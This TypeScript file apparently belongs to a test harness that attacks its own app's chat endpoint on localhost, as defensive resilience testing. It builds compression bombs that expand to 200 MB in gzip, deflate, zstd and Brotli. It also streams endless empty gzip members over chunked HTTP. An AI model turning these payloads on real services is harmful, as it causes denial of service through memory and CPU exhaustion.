import { brotliCompressSync, constants, deflateSync, gzipSync, zstdCompressSync } from 'node:zlib'
import { CHAT } from '../../tools/app/asks.ts'
import type { Attack } from '../attack.ts'
import { keyOf, writeAll } from '../field.ts'

const BOMB_BYTES = 200_000_000
const MEMBERS_A_BLOCK = 2_000

export const compressionBombs: Attack = {
  name: 'compression-bombs',
  does: 'uploads bodies that grow to 200 MB, by gzip, deflate, Brotli and zstd with a window of 128 MB',
  seconds: 4,
  async run(field) {
    const zeros = Buffer.alloc(BOMB_BYTES)
    const zstd = { params: { [constants.ZSTD_c_windowLog]: 27 } }
    const bombs = [
      ['gzip', gzipSync(zeros, { level: 1 })],
      ['zstd', zstdCompressSync(zeros, zstd)],
      ['deflate', deflateSync(zeros, { level: 1 })],
      ['zstd', zstdCompressSync(zeros.subarray(0, 140_000_000), zstd)],
      [
        'br',
        brotliCompressSync(zeros.subarray(0, 60_000_000), {
          params: { [constants.BROTLI_PARAM_QUALITY]: 1 },
        }),
      ],
    ] as const
    await field.storm(10, async (turn) => {
      const [coding = '', bomb] = bombs[turn % bombs.length] ?? []
      await field.post(CHAT, bomb, { caller: turn, headers: { 'content-encoding': coding } })
    })
  },
}

export const emptyMembers: Attack = {
  name: 'empty-members',
  does: 'uploads gzip members without end that hold nothing',
  seconds: 4,
  run: (field) => {
    const member = gzipSync('')
    const block = Buffer.concat(Array<Buffer>(MEMBERS_A_BLOCK).fill(member))
    const framed = Buffer.concat([
      Buffer.from(`${block.length.toString(16)}\r\n`),
      block,
      Buffer.from('\r\n'),
    ])
    function* endless() {
      for (;;) yield framed
    }
    return field.storm(4, async (turn) => {
      const client = await field.open()
      client?.write(
        `POST ${CHAT} HTTP/1.1\r\nhost: localhost\r\nauthorization: Bearer ${keyOf(turn)}\r\ncontent-encoding: gzip\r\ntransfer-encoding: chunked\r\n\r\n`,
      )
      if (client) await writeAll(client, endless(), field.signal)
    })
  },
}
